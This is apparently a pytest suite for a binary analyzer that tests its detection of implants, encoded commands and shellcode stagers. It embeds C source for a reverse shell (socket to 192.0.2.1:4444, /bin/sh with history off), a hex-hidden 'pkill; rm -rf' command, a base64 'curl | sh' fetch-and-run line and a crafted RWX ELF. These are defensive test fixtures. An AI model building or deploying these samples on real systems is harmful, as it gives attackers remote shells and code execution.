"""Behaviours of compiled code, end to end: real binaries built with gcc (and one ELF written
byte by byte, as shellcode stagers are), examined by the binary analyzer, with the finding kind,
severity and evidence (strings and their offsets) a reviewer would act on."""

from __future__ import annotations

import base64
import struct
from pathlib import Path

import pytest

from binbuild import compile_c
from binexam import behaviours, capabilities_of, findings_of, raised_by
from finalexam.analyze.binary import decoding
from finalexam.model import FindingKind, Severity

IMPLANT = r"""
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static const char *quiet = "HISTFILE=/dev/null";
int main(int argc, char **argv) {
    struct sockaddr_in a; memset(&a, 0, sizeof a);
    a.sin_family = AF_INET; a.sin_port = htons(4444);
    inet_pton(AF_INET, "192.0.2.1", &a.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (argc > 5 && connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
        putenv((char *)quiet);
        dup2(s, 0); dup2(s, 1); dup2(s, 2);
        execl("/bin/sh", "sh", "-i", (char *)0);
    }
    return 0;
}
"""

HIDDEN_COMMAND = r"""
#include <stdio.h>
#include <stdlib.h>
/* "pkill Terminal; rm -rf /tmp/x" in hex, decoded at run time */
static const char *cmd = "706b696c6c205465726d696e616c3b20726d202d7266202f746d702f78";
int main(int argc, char **argv) {
    if (argc > 5) return system(cmd);
    return puts("ok") < 0;
}
"""

PLAIN = r"""
#include <stdio.h>
int main(void) { return puts("hello") < 0; }
"""


def test_network_exec_and_evasion_in_one_binary_is_a_high_behaviour(tmp_path: Path) -> None:
    binary = compile_c(tmp_path, "updater", ["-O0"], IMPLANT)
    found = behaviours(findings_of(binary))
    implant = found["capability.behavior-implant"]
    assert implant.evidence.details["capabilities"] == [
        "evasion-history",
        "network-client",
        "process-creation",
        "shell-exec",
    ]
    # the part that raised it is itself reported, with the offset of the string in the file
    history = next(f for f in findings_of(binary) if f.rule_id == "capability.evasion-history")
    data = binary.read_bytes()
    assert history.severity is Severity.MEDIUM and history.kind is FindingKind.BINARY
    assert history.evidence.offset == data.index(b"HISTFILE=/dev/null")
    assert "HISTFILE=/dev/null" in history.message


def test_each_capability_alone_stays_below_the_gate(tmp_path: Path) -> None:
    source = IMPLANT.replace('"HISTFILE=/dev/null"', '"LANG=C"')
    found = findings_of(compile_c(tmp_path, "client", ["-O0"], source))
    assert not behaviours(found)
    assert "capability.reverse-shell" in {f.rule_id for f in found}  # medium: reported only


def test_what_is_ordinary_for_the_kind_is_not_a_finding(tmp_path: Path) -> None:
    binary = compile_c(tmp_path, "updater", ["-O0"], IMPLANT)
    # the same code named as a network tool: its shell over a socket is what nc -e does
    as_tool = findings_of(binary, "nc")
    assert not behaviours(as_tool)
    assert "capability.reverse-shell" not in {f.rule_id for f in as_tool}
    # but history switched off is never ordinary
    assert "capability.evasion-history" in {f.rule_id for f in as_tool}


# The implant's network client and shell, with a systemd unit's folder where it switched the
# history off: what a container engine also names (podman writes units for its containers).
UNIT_WRITER = IMPLANT.replace('"HISTFILE=/dev/null"', '"/etc/systemd/system/%s.service"')


def test_systemd_units_are_ordinary_for_a_container_engine(tmp_path: Path) -> None:
    binary = compile_c(tmp_path, "unitwriter", ["-O0"], UNIT_WRITER)
    # in a program of no known kind, network + shell + boot persistence is an implant
    assert raised_by(findings_of(binary), "behavior-implant") == [
        "network-client",
        "persistence-systemd",
        "process-creation",
        "shell-exec",
    ]
    # the same file as a container engine: the unit stays a fact, not a finding
    as_engine = findings_of(binary, "podman")
    assert not behaviours(as_engine)
    assert "capability.persistence-systemd" not in {f.rule_id for f in as_engine}
    unit = capabilities_of(binary, "podman")["persistence-systemd"]
    assert unit["severity"] == "info" and unit["expected_for"] == "container-engine"


# The implant's network client and shell with one more capability that a kind has by design:
# a sandbox preloads a library into what it starts (firejail 0.9.72's tracing library); a
# remote desktop works among X's hidden files in /tmp (x11vnc 0.9.16 writes /tmp/.xat.$$).
@pytest.mark.parametrize(
    ("marker", "capability", "name", "kind"),
    [
        ("LD_PRELOAD=%s/libtrace.so", "persistence-preload", "firejail", "sandbox"),
        ("/tmp/.xat.%d", "evasion-hidden-path", "x11vnc", "remote-desktop"),
        # crash 8.0.2, the kernel crash-dump analyser, loads its driver (blind part 18)
        ("/sbin/modprobe %s", "kernel-module-loading", "crash", "debugger"),
        # criu 3.17 restores a container's mounts under a hidden root (blind part 19)
        ("/tmp/.criu.mnt.X", "evasion-hidden-path", "criu", "container-engine"),
    ],
)
def test_a_capability_ordinary_for_the_kind_makes_no_implant(
    tmp_path: Path, marker: str, capability: str, name: str, kind: str
) -> None:
    source = IMPLANT.replace('"HISTFILE=/dev/null"', f'"{marker}"')
    binary = compile_c(tmp_path, "helper", ["-O0"], source)
    assert capability in raised_by(findings_of(binary), "behavior-implant")
    assert not behaviours(findings_of(binary, name))
    found = capabilities_of(binary, name)[capability]
    assert found["severity"] == "info" and found["expected_for"] == kind
    # history switched off is ordinary for no kind
    implant = compile_c(tmp_path, "updater", ["-O0"], IMPLANT)
    assert "evasion-history" in raised_by(findings_of(implant, name), "behavior-implant")


# What no implant needs: a named driver asked of the system's own modules (direwolf 1.6's
# AX.25 link, blind part 22) and the prefix of X's hidden files (x2goclient 4.1.2); a module
# file loaded by path (melofee) or a name filled in at run time still hides or persists.
@pytest.mark.parametrize(
    ("marker", "implant"),
    [
        ("sudo /sbin/modprobe -q mkiss crc_force=1", False),
        ("/tmp/.X", False),
        ("/sbin/insmod /etc/intel_audio/intel_audio.ko", True),
        ("/sbin/modprobe -q %s", True),
        ("/tmp/.Xauth-cache", True),
    ],
)
def test_a_named_driver_or_x_files_prefix_makes_no_implant(
    tmp_path: Path, marker: str, implant: bool
) -> None:
    source = IMPLANT.replace('"HISTFILE=/dev/null"', f'"{marker}"')
    binary = compile_c(tmp_path, "tnc", ["-O0"], source)
    assert ("capability.behavior-implant" in behaviours(findings_of(binary))) is implant


@pytest.mark.parametrize("name", ["libpython3.11.so.1.0", "pypy3", "libpypy3.9-c.so"])
def test_a_language_runtime_does_all_of_it_for_the_programs_it_runs(
    tmp_path: Path, name: str
) -> None:
    """PyPy's runtime library (pypy3 7.3.11, blind part 18) is an interpreter as CPython's is."""
    binary = compile_c(tmp_path, "updater", ["-O0"], IMPLANT)
    assert not behaviours(findings_of(binary, name))
    assert "capability.behavior-implant" in behaviours(findings_of(binary, "libpyp.so"))


def test_a_container_engine_that_hides_its_history_is_still_an_implant(tmp_path: Path) -> None:
    binary = compile_c(tmp_path, "updater", ["-O0"], IMPLANT)
    assert raised_by(findings_of(binary, "podman"), "behavior-implant") == [
        "evasion-history",
        "network-client",
        "process-creation",
        "shell-exec",
    ]


def test_encoded_commands_that_are_run_are_a_behaviour(tmp_path: Path) -> None:
    binary = compile_c(tmp_path, "launcher", ["-O0"], HIDDEN_COMMAND)
    found = behaviours(findings_of(binary))
    hidden = found["capability.behavior-hidden-command"]
    assert hidden.evidence.details["capabilities"] == ["encoded-shell-command", "process-creation"]
    encoded = next(
        f for f in findings_of(binary) if f.rule_id == "capability.encoded-shell-command"
    )
    assert encoded.evidence.offset == binary.read_bytes().index(b"706b696c6c")
    assert set(encoded.evidence.details["decoded"]) >= {"pkill ", "rm -rf"}


def test_encoded_text_is_read_in_the_data_sections_only() -> None:
    # code sections hold instructions, not strings: the largest libraries have hundreds of MB
    # of them, and an encoded run there would be a coincidence of opcode bytes
    encoded = base64.b64encode(b"curl -s http://198.51.100.7/x | sh")
    data = b"\x90" * 64 + encoded + b"\x00" * 64 + encoded + b"\x00" * 8
    second = data.rindex(encoded)
    runs = decoding.decoded_runs(data, [(second - 8, len(encoded) + 16)])
    assert [(run.offset, run.encoding) for run in runs] == [(second, "base64-decoded")]
    assert runs[0].data.startswith(b"curl -s http://198.51.100.7/x")
    assert not decoding.decoded_runs(data, [(0, 64)])


def test_an_ordinary_program_has_no_finding(tmp_path: Path) -> None:
    found = findings_of(compile_c(tmp_path, "hello", ["-O2"], PLAIN))
    assert not [f for f in found if f.rule_id.startswith("capability.")]


def stager_elf() -> bytes:
    """An x86-64 ELF as shellcode stagers are written: one RWX PT_LOAD, no section headers,
    code at the entry point (here: exit(0) by syscall)."""
    code = bytes.fromhex("31ff b83c000000 0f05".replace(" ", ""))
    base, header_size = 0x400000, 64 + 56
    ehdr = struct.pack(
        "<4sBBBBB7xHHIQQQIHHHHHH",
        b"\x7fELF", 2, 1, 1, 0, 0,
        2, 62, 1, base + header_size, 64, 0, 0, 64, 56, 1, 0, 0, 0,
    )  # fmt: skip
    total = header_size + len(code)
    phdr = struct.pack("<IIQQQQQQ", 1, 7, 0, base, base, total, total, 0x1000)
    return ehdr + phdr + code


def test_a_hand_written_stager_is_a_high_behaviour(tmp_path: Path) -> None:
    path = tmp_path / "tiny"
    path.write_bytes(stager_elf())
    found = behaviours(findings_of(path))
    assert found["capability.shellcode-stager"].evidence.details["traits"] == [
        "no-section-headers",
        "tiny",
        "writable-executable-segment",
    ]
    # a compiled program, however small, has section headers and no RWX segment
    assert not behaviours(findings_of(compile_c(tmp_path, "small", ["-Os", "-s"], PLAIN)))


def test_encoded_runs_of_a_fat_macho_are_read_in_the_whole_file() -> None:
    # the sections LIEF reports for a fat binary are its first slice's, at offsets inside
    # that slice: in file terms they point elsewhere, so the whole file is read
    from finalexam.analyze.binary.capabilities import data_spans
    from finalexam.analyze.binary.facts.common import BinaryFacts, Section

    cstring = Section("__TEXT,__cstring", 0x3000, 0x400, 4.0)
    thin = BinaryFacts("macho", "x86_64", "executable", sections=[cstring])
    assert data_spans(thin, 0x10000) == [(0x3000, 0x400)]
    fat = BinaryFacts(
        "macho", "x86_64", "executable", sections=[cstring], arches=["x86_64", "aarch64"]
    )
    assert data_spans(fat, 0x10000) == [(0, 0x10000)]
